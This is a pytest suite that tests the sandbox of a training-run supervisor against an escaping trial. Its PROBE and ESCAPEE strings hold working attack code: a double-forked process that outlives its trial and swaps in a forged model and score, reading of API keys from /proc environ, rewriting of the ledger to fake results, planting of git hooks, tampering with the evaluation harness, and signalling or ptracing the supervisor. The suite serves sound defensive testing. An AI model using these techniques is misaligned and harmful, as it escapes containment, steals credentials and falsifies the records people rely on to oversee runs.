"""Getting out of the trial: an escaped process, the ledger, keys in /proc, git hooks, signals, the network,
the harness.

One run (sandboxed): the baseline; then one trial that, before training, starts a double-forked ``setsid``
process meant to outlive it and swap the next trial's hand-over for its own model, and probes everything a
trial should not reach, reporting what it got (``ATTACK-REPORT`` lines in its log) before it exits without a
hand-over; then an honest re-run of the baseline, whose number must be its own.

The machine around the run is made worth attacking: a process whose initial environment holds the planted key
(/proc/<pid>/environ shows only that), a TCP service on this machine, a SIGUSR1 handler in the supervisor, the
run's real ledger, workspace and harness paths written into the attack (as a trial could read them off
/proc/self/mountinfo).
"""

from __future__ import annotations

import hashlib
import signal
import socket

import pytest

from supervisor.core import events as ev
from tests.attacks.support import (
    AFTER_IMPORTS,
    Listener,
    attack_steps,
    baseline_steps,
    decoy_process,
    fill,
    insert_after,
    leaks,
    new_marker,
    planted_secrets,
    require_sandbox,
    rerun_steps,
    run_attack,
    survivors,
    uniform_bpb,
)

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1800)]

# Runs as `python -c ESCAPEE MARKER FORGED`: ignores the polite signals, says it is alive every 10 ms, and
# whenever a new model appears in the exchange folder replaces it with its own (and forges a record beside it).
ESCAPEE = r'''
import os, shutil, signal, sys, time
marker, forged = sys.argv[1], sys.argv[2]
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
seen = None
end = time.time() + 600
while time.time() < end:
    try:
        with open("/out/escapee-alive-" + marker, "w") as fh:
            fh.write(str(time.time()))
        st = os.lstat("/out/model.pt2")
        if (st.st_ino, st.st_size) != seen:
            shutil.copyfile(forged, "/out/.escapee.pt2")
            os.replace("/out/.escapee.pt2", "/out/model.pt2")
            st = os.lstat("/out/model.pt2")
            seen = (st.st_ino, st.st_size)
            with open("/out/eval.json", "w") as fh:
                fh.write('{"ok": true, "val_bpb": 0.001}')
    except OSError:
        pass
    time.sleep(0.01)
'''

PROBE = '''
_ATK_ESCAPEE = @ESCAPEE@


class _AtkFlat(torch.nn.Module):  # the model the escaped process hands over in later trials' place
    def forward(self, idx):
        return torch.zeros(idx.shape[0], idx.shape[1], VOCAB_SIZE) + idx[..., None] * 0.0


def _atk_report(**items):
    import json as _json
    print("ATTACK-REPORT " + _json.dumps(items, default=str), flush=True)


def _atk_escape():
    """Double fork, setsid, exec: a process in no group of the trial's, meant to outlive it."""
    import hashlib as _hashlib
    import time as _time
    forged = "/tmp/forged-@MARKER@.pt2"
    program = torch.export.export(_AtkFlat(), (torch.zeros(8, MAX_SEQ_LEN, dtype=torch.long),), strict=False)
    torch.export.save(program, forged)
    with open(forged, "rb") as handle:
        digest = _hashlib.sha256(handle.read()).hexdigest()
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", _ATK_ESCAPEE, "@MARKER@", forged])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    alive = "/out/escapee-alive-@MARKER@"
    until = _time.time() + 30
    while not os.path.exists(alive) and _time.time() < until:
        _time.sleep(0.05)
    _atk_report(forged_sha256=digest, escapee_started=os.path.exists(alive))


def _atk_probe():
    import socket as _socket
    import sqlite3 as _sqlite3
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    try:
        with open("/proc/1/cmdline", "rb") as handle:
            pid1 = handle.read().split(b"\\0")[0].decode(errors="replace")
    except OSError as exc:
        pid1 = exc.strerror
    # Keys in the environment of every process in sight, the parent's first; printed into the run's records.
    stolen = []
    for pid in [os.getppid(), *pids]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                stolen += [item.decode(errors="replace") for item in handle.read().split(b"\\0") if b"API_KEY=" in item]
        except OSError:
            pass
    print("STOLEN " + " ".join(stolen), flush=True)
    # Where the trial's folders come from on the host.
    try:
        with open("/proc/self/mountinfo") as handle:
            mounts = {f[4]: f[3] for f in (line.split() for line in handle) if f[4] in ("/out", "/trial/trainer")}
    except OSError:
        mounts = {}
    # The ledger and the run's other records: guessed, then searched for.
    guesses = ["../../ledger.sqlite", "../ledger.sqlite", "ledger.sqlite", "/ledger.sqlite", "/out/../ledger.sqlite",
               "/trial/../ledger.sqlite", "@HOST_LEDGER@"]
    found = [g for g in guesses if os.path.isfile(g)]
    skip = ("/proc", "/sys", "/dev", "/usr", "/lib", "/bin", "/sbin", "/etc", sys.prefix, sys.base_prefix)
    for root, dirs, files in os.walk("/"):
        if root != "/" and root.startswith(skip):
            dirs[:] = []
            continue
        found += [os.path.join(root, f) for f in files
                  if f.endswith((".sqlite", ".db")) or f in ("results.tsv", "journal.md", "transcript.jsonl")]
    rewritten = []
    for path in found:
        if not os.path.realpath(path).startswith("@HOST_BASE@"):
            continue  # found is what counts; only this test's own files are ever rewritten
        try:
            if path.endswith((".sqlite", ".db")):
                db = _sqlite3.connect(path)
                db.execute("UPDATE trials SET status = 'keep', val_bpb = 0.001, description = 'PWNED'")
                db.commit()
                db.close()
            else:
                with open(path, "a") as handle:
                    handle.write("PWNED\\n")
            rewritten.append(path)
        except Exception:
            pass
    # Git: hooks and program-running settings in every .git a trial might reach.
    hook = "#!/bin/sh\\necho hook >> @PWNED@\\n"
    gits = [".git", "../.git", "/trial/.git", "/trial/trainer/.git", "/.git", "@HOST_GIT@"]
    planted = []
    for git in gits:
        try:
            os.makedirs(os.path.join(git, "hooks"), exist_ok=True)
            for name in ("post-commit", "pre-commit", "post-checkout", "reference-transaction"):
                path = os.path.join(git, "hooks", name)
                with open(path, "w") as handle:
                    handle.write(hook)
                os.chmod(path, 0o755)
            with open(os.path.join(git, "config"), "a") as handle:
                handle.write('[core]\\n\\tfsmonitor = "echo fsmonitor >> @PWNED@"\\n\\thooksPath = ' + git + "/hooks\\n")
            planted.append(git)
        except OSError:
            pass
    # The harness: the workspace's copy and the supervisor's pristine one.
    harness = []
    for path in ("trainer/prepare.py", "/trial/trainer/prepare.py", "/proc/self/root/trial/trainer/prepare.py",
                 "@HOST_PREPARE@", "@HOST_PRISTINE@"):
        try:
            with open(path, "a") as handle:
                handle.write("\\n# PWNED\\n")
            harness.append(path)
        except OSError:
            pass
    # The network: a TCP service of this machine.
    network = {}
    hosts = ["127.0.0.1", "@HOST_IP@"]
    try:
        hosts += [a[4][0] for a in _socket.getaddrinfo(_socket.gethostname(), None, _socket.AF_INET)]
    except OSError:
        pass
    for host in dict.fromkeys(hosts):
        try:
            with _socket.create_connection((host, @PORT@), timeout=2):
                network[host] = "connected"
        except OSError as exc:
            network[host] = str(exc)[:80]
    _atk_report(visible_pids=len(pids), pid1=pid1, keys_found=len(stolen), mounts=mounts, records_found=found,
                records_rewritten=rewritten, git_planted=planted, harness_written=harness, network=network)


def _atk_signal():
    """SIGUSR1 and PTRACE_ATTACH to the parent and to anything that looks like the supervisor."""
    import ctypes as _ctypes
    import signal as _signal
    targets = set()
    for pid in (int(p) for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                if b"pytest" in handle.read():
                    targets.add(pid)
        except OSError:
            pass
    if os.getppid() > 1:
        targets.add(os.getppid())
    libc = _ctypes.CDLL(None, use_errno=True)
    outcome = {}
    for pid in sorted(targets - {os.getpid()}):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                name = handle.read().split(b"\\0")[0].decode(errors="replace")
        except OSError:
            name = "?"
        try:
            os.kill(pid, _signal.SIGUSR1)
            outcome[str(pid)] = name + ": signalled"
        except OSError as exc:
            outcome[str(pid)] = name + ": " + str(exc.strerror)
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            outcome[str(pid)] += ", ptrace attached"
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    _atk_report(signal_targets=outcome)


_atk_escape()
_atk_probe()
_atk_signal()
os._exit(0)  # no hand-over: this trial only had to get out
'''


@pytest.fixture(scope="module")
def run(prepared_cache, tmp_path_factory):
    require_sandbox()
    base = tmp_path_factory.mktemp("escape")
    marker = new_marker()
    run_dir = base / "journals" / "attack"
    pwned = base / f"PWNED-{marker}"
    received: list[int] = []
    seen: dict[str, list[str]] = {}

    def on_event(event):
        if event.kind == ev.TRIAL_STARTED and event.data.get("trial_id") == 3:
            seen["survivors when the next trial started"] = survivors(marker)
        if event.kind == ev.TRIAL_FINISHED and event.data.get("trial_id") == 3:
            seen["escapee files after the next trial"] = [p.name for p in (run_dir / "exchange").iterdir()
                                                         if "escapee" in p.name]

    with planted_secrets() as key, decoy_process(key, new_marker("decoy")), Listener() as listener:
        try:
            host_ip = socket.gethostbyname(socket.gethostname())
        except OSError:
            host_ip = "127.0.0.1"
        probe = fill(PROBE, ESCAPEE=repr(ESCAPEE), MARKER=marker, PWNED=pwned, PORT=listener.port, HOST_IP=host_ip,
                     HOST_BASE=base,
                     HOST_LEDGER=run_dir / "ledger.sqlite", HOST_GIT=run_dir / "workspace" / ".git",
                     HOST_PREPARE=run_dir / "workspace" / "trainer" / "prepare.py",
                     HOST_PRISTINE=run_dir / "harness" / "trainer" / "prepare.py")
        steps = [*baseline_steps(),
                 *attack_steps(1, "escape: a process that outlives the trial, and probes", insert_after(AFTER_IMPORTS, probe)),
                 *rerun_steps(2, "honest: the baseline again")]
        previous = signal.signal(signal.SIGUSR1, lambda signum, frame: received.append(signum))
        try:
            result = run_attack(base, prepared_cache, steps, key=key, marker=marker, on_event=on_event)
        finally:
            signal.signal(signal.SIGUSR1, previous)
        connections = listener.connections
    result.extra.update(pwned=pwned, received=received, connections=connections, seen=seen)
    return result


def test_an_escaped_process_dies_with_its_trial_and_cannot_swap_the_next_hand_over(run):
    """Attack: before training, the trial exports a model of its own, then double-forks, calls setsid and execs
    a process (its marker in its command line) that ignores SIGTERM/SIGHUP/SIGINT and, for ten minutes, swaps
    every model that appears in the exchange folder for its own and writes a forged eval.json beside it. The
    trial then exits without a hand-over; the next trial is the unchanged baseline.

    Why it would forge: the exchange folder is shared by consecutive trials; a survivor could replace the next
    trial's hand-over between its rename and the supervisor's copy, or write records, for every trial to come.

    Defence: the trial runs in its own PID namespace, so when its first process exits the kernel kills the
    rest, setsid or not; the supervisor copies the first hand-over at once and computes the number itself.
    The escapee did start; it is gone before the next trial starts; the next trial's number is its own."""
    attack, honest = run.by_description("escape"), run.by_description("honest")
    reports = run.reports(attack)
    assert reports.get("escapee_started") is True, reports
    assert attack.status == "crash" and attack.val_bpb is None
    assert run.extra["seen"]["survivors when the next trial started"] == []
    assert run.extra["seen"]["escapee files after the next trial"] == []
    assert survivors(run.marker) == []
    record = run.record(honest)
    assert record is not None and record["ok"] is True and honest.status != "crash", honest.crash_reason
    kept = hashlib.sha256((run.folder(honest) / "model.pt2").read_bytes()).hexdigest()
    assert record["artifact_sha256"] == kept != reports["forged_sha256"]
    assert honest.val_bpb == record["val_bpb"] and 1.0 < honest.val_bpb < uniform_bpb(record) - 0.05


def test_the_ledger_and_the_run_records_are_out_of_reach(run):
    """Attack: the trial opens ../../ledger.sqlite and other guesses (among them the run's real ledger path,
    which /proc/self/mountinfo gives away), walks the whole file system it can see for *.sqlite, *.db,
    results.tsv, journal.md and transcript.jsonl, and rewrites each: every trial a keep at val_bpb 0.001.

    Why it would forge: the ledger is the run's single source of truth; results.tsv and journal.md are what
    the person reads in the morning.

    Defence: the sandbox shows the trial only the trainer folder, the training view of the cache, its exchange
    folder, the compile cache and a private /tmp; the run folder is not in its file system at all."""
    attack = run.by_description("escape")
    reports = run.reports(attack)
    assert reports["records_found"] == [] and reports["records_rewritten"] == []
    ledger = run.ledger()
    try:
        trials = ledger.finished_trials()
    finally:
        ledger.close()
    assert [t.status for t in trials][:2] == ["keep", "crash"]
    assert trials[0].val_bpb == run.record(trials[0])["val_bpb"]
    assert not [t for t in trials if t.description == "PWNED" or t.val_bpb == 0.001]
    for name in ("results.tsv", "journal.md", "transcript.jsonl"):  # the attack appends a line "PWNED"
        assert "PWNED" not in (run.run_dir / name).read_text(encoding="utf-8").splitlines()


def test_no_key_can_be_read_from_proc(run):
    """Attack: the trial reads /proc/<parent>/environ and /proc/<pid>/environ of every process it can see, and
    prints every ``*API_KEY=`` it finds into its log (which the run keeps). A process of this machine holds the
    planted key in its initial environment, as a shell that exported it would.

    Why it would leak: the trial's own environment is scrubbed, but the supervisor's parent, a sibling or the
    person's shell may hold a key in /proc, readable by the same user.

    Defence: the trial has its own PID namespace and a fresh /proc: it sees only its own processes (pid 1 is
    bubblewrap's), no key is found, and the key is in no file of the run."""
    reports = run.reports(run.by_description("escape"))
    assert reports["keys_found"] == 0
    assert reports["pid1"].endswith("bwrap") and reports["visible_pids"] < 10, reports
    assert leaks(run.run_dir, run.key) == []


def test_git_hooks_and_settings_cannot_be_planted(run):
    """Attack: the trial writes post-commit, pre-commit, post-checkout and reference-transaction hooks and a
    core.fsmonitor / core.hooksPath into every .git it might reach: ./.git, ../.git, /trial/.git, /.git and
    the run's real workspace .git (its path written into the attack). (Not $PWD's: unsandboxed that is the
    person's own checkout, and this suite must not touch it.)
    The next trial's commit and the supervisor's git status would run them (as the supervisor, with its keys).

    Defence: the workspace's .git is not in the sandbox; the trainer folder and the sandbox's root are
    read-only; /tmp is the sandbox's own. Nothing reached a real .git; the hooks never ran."""
    reports = run.reports(run.by_description("escape"))
    # The sandbox's /tmp is a private tmpfs: a host path under /tmp (this test's) is created there, not here.
    assert [git for git in reports["git_planted"] if not git.startswith("/tmp/")] == []
    assert not run.extra["pwned"].exists()
    hooks = run.run_dir / "workspace" / ".git" / "hooks"
    assert not (hooks / "post-commit").exists()
    assert "fsmonitor = \"echo" not in (run.run_dir / "workspace" / ".git" / "config").read_text()


def test_the_supervisor_cannot_be_signalled_or_traced(run):
    """Attack: the trial sends SIGUSR1 (whose default action would kill the supervisor; the test installed a
    handler that counts it) and PTRACE_ATTACH to its parent and to every process whose command line says
    pytest.

    Defence: the PID namespace: the supervisor is not a process the trial can name. No signal arrived, and the
    only process the trial could attach to is the sandbox's own init."""
    assert run.extra["received"] == []
    targets = run.reports(run.by_description("escape")).get("signal_targets", {})
    # bubblewrap's own init inside the sandbox says "pytest" too (its mount paths): it is the only one reached.
    assert not [outcome for outcome in targets.values() if "attached" in outcome and not outcome.split(":")[0].endswith("bwrap")]


def test_no_service_of_the_machine_can_be_reached(run):
    """Attack: the trial connects to a TCP service this test runs on the machine (bound to 0.0.0.0), at
    127.0.0.1 and at the machine's own addresses. A trial that can reach the host's loopback can reach
    whatever listens there (an inference server, a database, a metadata service).

    Defence: an empty network namespace: its loopback is its own. Nothing connected."""
    network = run.reports(run.by_description("escape"))["network"]
    assert network and "connected" not in network.values()
    assert run.extra["connections"] == 0


def test_the_harness_cannot_be_rewritten(run):
    """Attack: the trial appends to trainer/prepare.py (relative, /trial/..., through /proc/self/root, and at
    the workspace's and the pristine copy's host paths), the file whose evaluate code and constants define
    the metric.

    Defence: the trainer folder is mounted read-only and the host paths do not exist in the sandbox; both
    copies are as committed."""
    reports = run.reports(run.by_description("escape"))
    assert reports["harness_written"] == []
    committed = (run.run_dir / "harness" / "trainer" / "prepare.py").read_text(encoding="utf-8")
    assert "PWNED" not in committed
    assert "PWNED" not in (run.run_dir / "workspace" / "trainer" / "prepare.py").read_text(encoding="utf-8")


def test_the_run_leaks_no_key_leaves_no_process_and_no_traceback(run):
    """The planted key is in no file of the run, no process carries the marker, the supervisor finished cleanly."""
    assert leaks(run.run_dir, run.key) == []
    assert survivors(run.marker) == []
    run.assert_clean_supervisor()
